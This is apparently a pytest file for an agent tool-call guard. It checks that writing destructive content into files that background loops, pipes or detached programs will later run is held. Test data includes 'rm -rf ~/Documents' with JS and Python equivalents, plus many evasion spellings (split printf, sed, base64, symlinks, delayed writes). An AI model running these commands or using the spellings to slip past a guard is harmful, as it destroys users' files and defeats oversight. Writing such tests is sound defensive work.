"""What is written into files that programs of earlier calls may still run is judged as if it ran."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from test_file_watch import Play
from toolguard_engine.model.call import Call
from toolguard_engine.model.living_programs import LASTS, MAX_PROGRAMS, LivingProgram, LivingPrograms
from toolguard_engine.stores import open as stores
from toolguard_engine.wire import messages

HARM = "rm -rf ~/Documents"
JS_HARM = "require('fs').rmSync(require('os').homedir() + '/Documents', {recursive: true})"
PY_HARM = "import shutil, os\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"
LOOP = "while sleep 1; do [ -f job ] && . ./job; done"


class Stage(Play):
    """`Play` with programs that go on."""

    def starts(self, command: str, process: str = "p1", **params: Any) -> None:
        """A command runs on under an id of the gateway."""
        given = {"command": command, **params}
        assert self.may_run("exec", given), command
        place = {"agent": "main", "session": "s", "run": "r", "call": f"c{self.count}"}
        self.session.answer(
            messages.ToolResult("exec", given, "Command still running", 21, process=process, status="running", **place)
        )
        self.session.settle()

    def put(self, name: str, text: str) -> None:
        """A file of the person."""
        path = self.work / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    def judged(self, tool: str, params: dict[str, Any]) -> str:
        """The verdict on a call that is judged and not run."""
        guard = self.session.guard
        verdict = guard.judge(Call(tool, params, agent="main", session="s", run="r", call_id="other", cwd=str(self.work)))
        return f"{verdict.decision} {verdict.code} {verdict.reason}"

    def verdict(self, call: str | tuple[str, str]) -> str:
        """Of a command, or of a file that `write` writes."""
        if isinstance(call, str):
            return self.judged("exec", {"command": call})
        return self.judged("write", {"path": call[0], "content": call[1]})


@pytest.fixture
def stage(tmp_path: Path) -> Stage:
    return Stage(tmp_path)


STARTS = {
    LOOP: "job",
    f"({LOOP}) &": "job",
    f"nohup sh -c '{LOOP}' > log 2>&1 &": "job",
    f"setsid sh -c '{LOOP}'": "job",
    f"tmux new -d '{LOOP}'": "job",
    f"screen -dm sh -c '{LOOP}'": "job",
    "while sleep 1; do sh jobs/a.sh; done": "jobs/a.sh",
    "cd sub && while sleep 1; do ./job; done": "sub/job",
    "while inotifywait -e close_write .; do sh job; done": "job",
    "tail -f q | sh": "q",
    "tail -F q | bash &": "q",
    "tail -f q | grep -v '^#' | sh": "q",
    "tail -f q | while read l; do $l; done": "q",
    "mkfifo p; sh < p": "p",
    "mkfifo p && cat p | sh": "p",
    "mkfifo p; while :; do sh p; done": "p",
    "watch sh x.sh": "x.sh",
    "ls *.sh | entr sh x.sh": "x.sh",
    "sleep 1; sh x.sh": "x.sh",
    'while sleep 1; do for f in jobs/*; do sh "$f"; done; done': "jobs/new",
    "while sleep 1; do make -s; done": "Makefile",
}


def _harmful(name: str) -> str:
    return f"all:\n\t{HARM}\n" if name == "Makefile" else f"{HARM}\n"


@pytest.mark.parametrize(("command", "name"), STARTS.items(), ids=STARTS)
def test_a_text_is_judged_as_if_it_ran(stage: Stage, command: str, name: str) -> None:
    assert stage.verdict((name, _harmful(name))).startswith("allow")
    stage.starts(command)
    found = stage.verdict((name, _harmful(name)))
    assert (found.startswith("hold living.runs "), "~/Documents" in found) == (True, True), found
    assert stage.verdict((name, _harmful(name).replace("~/Documents", "build/tmp"))).startswith("allow")
    assert stage.verdict((f"notes/{name}", HARM)).startswith("allow")


SPELLED = [
    ("write", {"path": "{work}/job", "content": HARM}),
    ("write", {"path": "./sub/../job", "content": HARM}),
    ("write", {"path": "~/work/job", "content": HARM}),
    ("write", {"path": "way/job", "content": HARM}),
    ("edit", {"path": "job", "oldText": "true", "newText": HARM}),
    ("edit", {"path": "job", "edits": [{"oldText": "true", "newText": HARM}]}),
    ("apply_patch", {"input": f"*** Begin Patch\n*** Update File: job\n@@\n-true\n+{HARM}\n*** End Patch"}),
    ("exec", {"command": f"echo '{HARM}' > job"}),
    ("exec", {"command": f"echo '{HARM}' >> {{work}}/job"}),
    ("exec", {"command": f"echo '{HARM}' | tee -a job"}),
    ("exec", {"command": f"cat > job <<'E'\n{HARM}\nE"}),
    ("exec", {"command": f"echo '{HARM}' > jo[b]"}),
    ("exec", {"command": "cd sub && printf 'rm -rf ~/Doc%s' uments > ../job"}),
    ("exec", {"command": "cp evil job"}),
    ("exec", {"command": "mv evil job"}),
    ("exec", {"command": "ln -sf evil job"}),
    ("exec", {"command": "cat evil > job"}),
    ("exec", {"command": "cp bad/job ."}),
    ("exec", {"command": "mv bad/* ."}),
    ("exec", {"command": "install -m 755 evil job"}),
    ("exec", {"command": "sed -i s/true/rm/ job && sed -i 's/rm/rm -rf ~\\/Documents/' job"}),
    ("exec", {"command": f"python3 -c \"open('job', 'w').write('{HARM}')\""}),
    ("exec", {"command": f"(sleep 9; echo '{HARM}' > job) &"}),
]  # fmt: skip


@pytest.mark.parametrize(("tool", "params"), SPELLED, ids=[str(list(params.values())) for _, params in SPELLED])
def test_other_spellings_and_ways_to_write(stage: Stage, tool: str, params: dict[str, Any]) -> None:
    for name in ("evil", "bad/job"):
        stage.put(name, f"{HARM}\n")
    stage.put("job", "true\n")
    stage.put("sub/x", "")
    (stage.work / "way").symlink_to(stage.work)
    given = {
        key: value.format(work=stage.work) if isinstance(value, str) and "{work}" in value else value
        for key, value in params.items()
    }
    assert stage.judged(tool, given).startswith("allow")
    stage.starts(LOOP)
    found = stage.judged(tool, given)
    assert found.startswith("hold living."), found


UNKNOWN = [
    "tr a-z b-za < b > job",
    "base64 -d b > job",
    "curl -s https://x.example/x -o job",
    "tar xf a.tar -C .",
    "openssl enc -d -aes-256-cbc -in b -out job",
    "python3 gen.py > job",
    "rev b | sponge job",
]


@pytest.mark.parametrize("command", UNKNOWN)
def test_an_unknown_text_is_held(stage: Stage, command: str) -> None:
    stage.put("b", "eG0K\n")
    stage.put("gen.py", "print(input())\n")
    stage.does("write", {"path": "a.tar", "content": "x"})
    before = stage.verdict(command)
    stage.starts(LOOP)
    if before.startswith("allow"):
        assert stage.verdict(command).startswith("hold living.unknown "), command
    assert stage.verdict(command.replace("job", "other").replace("-C .", "-C o")) == before.replace("job", "other")


def test_in_one_message(stage: Stage) -> None:
    """The calls of one message are judged before the first of them runs."""
    assert stage.may_run("exec", {"command": "sleep 1; sh x.sh"})
    assert stage.verdict(("x.sh", HARM)).startswith("hold living.runs")
    stage.has_run("exec", {"command": "sleep 1; sh x.sh"})
    assert stage.verdict(("x.sh", HARM)).startswith("allow")


HONEST = {
    "npm run dev": ("package.json", '{"scripts": {"dev": "vite", "clean": "rm -rf dist"}}'),
    "npm run dev &": ("src/App.jsx", "export default () => <p>hi</p>\n"),
    "node --watch server.js": ("server.js", "import './lib.js'\nconsole.log(1)\n"),
    "nodemon server.js": ("lib.js", "export const a = process.env.HOME\n"),
    "vite": ("vite.config.js", "export default { server: { port: 3000 } }\n"),
    "uvicorn app:app --reload": ("app.py", "from fastapi import FastAPI\napp = FastAPI()\n"),
    "python3 manage.py runserver": ("shop/views.py", "def index(request):\n    return None\n"),
    "watch sh x.sh": ("x.sh", "date; df -h\n"),
    "tail -f app.log": ("app.log", f"{HARM}\n"),
    "tail -f app.log | grep error": ("app.log", f"{HARM}\n"),
    "while sleep 60; do sh backup.sh; done": ("notes.md", f"{HARM}\n"),
    "sh build.sh": ("build.sh.md", f"{HARM}\n"),
}


@pytest.mark.parametrize(("command", "call"), HONEST.items(), ids=HONEST)
def test_honest_neighbours_run(stage: Stage, command: str, call: tuple[str, str]) -> None:
    stage.put("package.json", '{"scripts": {"dev": "vite"}}')
    stage.put("server.js", "import './lib.js'\n")
    for name in ("lib.js", "app.py", "manage.py"):
        stage.put(name, "")
    for name in ("x.sh", "build.sh", "backup.sh"):
        stage.put(name, "date\n")
    stage.starts(command)
    assert stage.verdict(call).startswith("allow")


def test_a_watcher_of_the_person_is_not_known(stage: Stage) -> None:
    assert stage.verdict(("job", HARM)).startswith("allow")


def test_until_the_program_ends(stage: Stage) -> None:
    stage.starts(LOOP, "p1")
    for action, status in (("write", "failed"), ("poll", "running")):
        stage.does("process", {"action": action, "sessionId": "p1", "data": ""})
        assert stage.verdict(("job", HARM)).startswith("hold"), (action, status)
    params = {"action": "kill", "sessionId": "p1"}
    assert stage.may_run("process", params)
    place = {"agent": "main", "session": "s", "run": "r", "call": f"c{stage.count}"}
    stage.session.answer(messages.ToolResult("process", params, "Killed", 6, status="failed", **place))
    stage.session.settle()
    assert stage.verdict(("job", HARM)).startswith("allow")


def test_what_is_detached_outlives_its_process(stage: Stage) -> None:
    stage.run(f"nohup sh -c '{LOOP}' &")
    assert stage.verdict(("job", HARM)).startswith("hold living.runs")


def test_modules_that_are_taken_in_later(stage: Stage) -> None:
    stage.put("server.js", "console.log(1)\n")
    stage.starts("node --watch server.js")
    assert stage.verdict(("lib.js", JS_HARM)).startswith("allow")
    stage.does(
        "write",
        {"path": "server.js", "content": "require('./lib.js')\n"},
        lambda: stage.put("server.js", "require('./lib.js')\n"),
    )
    assert stage.verdict(("lib.js", JS_HARM)).startswith("hold living.runs")


def test_an_engine_after_this_one_knows_them(stage: Stage, tmp_path: Path) -> None:
    stage.starts(LOOP)
    stage.run("tail -F q | sh &")
    assert stage.may_run("exec", {"command": "sh x.sh"})
    store = stores.file_memory(tmp_path)
    store.save({}, stage.session.guard.living.lasting)
    (tmp_path / "next").mkdir()
    after = Stage(tmp_path / "next")
    after.work = stage.work
    after.session.guard.living.restore(store.load()[1])
    assert after.verdict(("job", HARM)).startswith("hold living.runs")
    assert after.verdict(("q", HARM)).startswith("hold living.runs")
    assert after.verdict(("x.sh", HARM)).startswith("allow")


def test_a_day_later_it_counts_as_ended() -> None:
    programs = LivingPrograms()
    for number in range(MAX_PROGRAMS + 1):
        programs.started(LivingProgram((f"sh {number}",), at=1.0 + number, files={"/x": "/x"}, goes_on=True))
    assert [len(programs), next(iter(programs)).commands] == [MAX_PROGRAMS, ("sh 1",)]
    programs.expire(LASTS + 2.5)
    assert len(programs) == MAX_PROGRAMS - 1


def test_the_same_program_is_known_once() -> None:
    programs = LivingPrograms()
    for name in ("/x", "/y"):
        programs.started(LivingProgram(("sh x &",), files={name: name}, goes_on=True))
    assert [(len(programs), each.files) for each in programs] == [(1, {"/x": "/x", "/y": "/y"})]
